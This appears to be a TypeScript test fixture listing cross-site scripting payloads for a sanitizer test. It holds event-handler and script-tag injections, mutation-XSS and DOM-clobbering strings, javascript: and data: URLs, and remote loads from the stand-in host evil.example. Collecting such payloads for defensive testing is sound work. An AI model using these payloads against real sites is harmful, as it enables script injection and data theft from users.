/** What is run where markup gets through; the page has a list for it. */
const code = 'ran.push(1)';
const entities = [...code].map((letter) => `&#${letter.charCodeAt(0)}`).join(';');

const elsewhere = 'https://evil.example';

const handlers = [
  ['img src=x', 'onerror'],
  ['image src=x', 'onerror'],
  ['svg', 'onload'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x', 'onbegin'],
  ['svg><image href=x', 'onerror'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['video src=x', 'onerror'],
  ['video><source src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onload'],
  ['iframe src=/', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['style', 'onload'],
  ['script src=x', 'onerror'],
  ['p tabindex=0 autofocus', 'onfocus'],
  ['a href=# autofocus', 'onfocus'],
  ['custom-element', 'onanimationstart'],
  ['div style="animation: x 1s"', 'onanimationend'],
  ['math><mi', 'onload'],
  ['template><img src=x', 'onerror'],
  ['dialog open', 'onclose'],
].flatMap(([tag, event]) => [`<${tag} ${event}="${code}">a`, `<${tag}/${event}=${code}//`]);

const scripts = [
  `<script>${code}</script>`,
  `<SCRIPT>${code}</SCRIPT>`,
  `<scr<script>ipt>${code}</scr</script>ipt>`,
  `<script/x>${code}</script >`,
  `<script\n>${code}</script\n>`,
  `<script src=${elsewhere}/x.js></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script type=module>${code}</script>`,
  `<svg><script>${code}</script></svg>`,
  `<svg><script href="data:,${code}"/></svg>`,
  `<math><annotation-xml encoding="text/html"><script>${code}</script></annotation-xml></math>`,
  `<noscript><p title="</noscript><script>${code}</script>">`,
  `<template><script>${code}</script></template>`,
  `</script><script>${code}</script>`,
  `</title><script>${code}</script>`,
  `</textarea><script>${code}</script>`,
  `--><script>${code}</script>`,
  `]]><script>${code}</script>`,
  `"><script>${code}</script>`,
  `'><script>${code}</script>`,
];

/** Texts that a parser reads in one way, and, once they are written down again, in another. */
const mutating = [
  `<svg></p><style><a id="</style><img src=1 onerror=${code}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${code}>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${code}>`,
  `<svg><title><style><img src=x onerror=${code}></style></title></svg>`,
  `<svg><foreignObject><img src=x onerror=${code}></foreignObject></svg>`,
  `<p title="</p><img src=x onerror=${code}>">`,
  `<!--><img src=x onerror=${code}>-->`,
  `<!-- --!><img src=x onerror=${code}> -->`,
  `<xmp><img title="</xmp><img src=x onerror=${code}>"></xmp>`,
  `<noembed><img title="</noembed><img src=x onerror=${code}>"></noembed>`,
  `<select><style></select><img src=x onerror=${code}></style>`,
  `<table><td><caption><img src=x onerror=${code}>`,
  `<a><table><a href=x onclick=${code}>`,
  `<frameset onload=${code}><frame src="javascript:${code}">a</frameset>`,
  `<img src=x onerror\u0000="${code}">`,
  `<img\u000csrc=x\u000conerror="${code}">`,
  `<img src="x\`onerror=${code}//">`,
  `&lt;img src=x onerror=${code}&gt;`,
  `&amp;lt;img src=x onerror=${code}&amp;gt;`,
  `<img src=x onerror=${entities}>`,
];

const clobbering = [
  '<form id=root><input name=firstChild></form>',
  '<img name=body><img id=location>',
  '<a id=location href="javascript:ran.push(1)">a</a>',
  '<form name=document><input name=cookie></form>',
  '<img name=currentScript src=x>',
  '<a id=ran><a id=ran name=push>',
];

const outward = [
  `<base href=${elsewhere}>`,
  `<meta http-equiv=refresh content="0;url=${elsewhere}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  `<iframe src=${elsewhere}></iframe>`,
  `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  `<iframe src="javascript:parent.${code}"></iframe>`,
  `<object data="data:text/html,<script>${code}</script>"></object>`,
  `<embed src="javascript:${code}">`,
  `<link rel=stylesheet href=${elsewhere}/x.css>`,
  `<style>@import "${elsewhere}/x.css"; * { background: url(${elsewhere}/x) }</style>`,
  `<p style="background: url(${elsewhere}/x)">a</p>`,
  `<img src=${elsewhere}/x.png>`,
  `<img srcset="${elsewhere}/x.png 1x">`,
  `<picture><source srcset=${elsewhere}/x.png><img src=/x.png></picture>`,
  `<video poster=${elsewhere}/x.png></video>`,
  `<svg><use href="${elsewhere}/x.svg#a"></svg>`,
  `<form action=${elsewhere}><input type=submit autofocus></form>`,
  `<input type=image src=${elsewhere}/x.png>`,
  `<a href="${elsewhere}" ping="${elsewhere}/ping">a</a>`,
  `<portal src=${elsewhere}></portal>`,
];

/** The texts of reliability S01. */
export const payloads: readonly string[] = [
  ...handlers,
  ...scripts,
  ...mutating,
  ...clobbering,
  ...outward,
];

/** Addresses in the place of a picture or of a link. */
export const hostileAddresses: readonly string[] = [
  `javascript:${code}`,
  ` java\tscript:${code}`,
  `JAVASCRIPT:${code}//`,
  `vbscript:${code}`,
  `data:text/html,<script>parent.${code}</script>`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="parent.${code}"/>`,
  `blob:https://evil.example/0b9a4f5c-0000-4000-8000-000000000000`,
  `${elsewhere}/x.png`,
  '//evil.example/x.png',
  '/\\evil.example/x.png',
  `x" onerror="${code}`,
  `x' onerror='${code}`,
];
